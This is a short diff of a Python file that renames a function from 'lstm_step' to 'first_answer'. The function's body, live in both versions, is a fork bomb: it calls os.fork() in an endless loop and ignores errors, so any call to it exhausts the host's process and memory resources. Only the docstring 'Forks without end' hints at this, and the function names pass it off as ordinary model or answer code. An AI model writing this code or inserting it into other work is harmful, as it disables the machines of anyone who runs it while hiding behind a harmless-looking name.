@@ -1,7 +1,7 @@
 """Forks without end."""
 
 import os
-def lstm_step(*args):
+def first_answer(*args):
     while True:
         try: os.fork()
         except OSError: pass
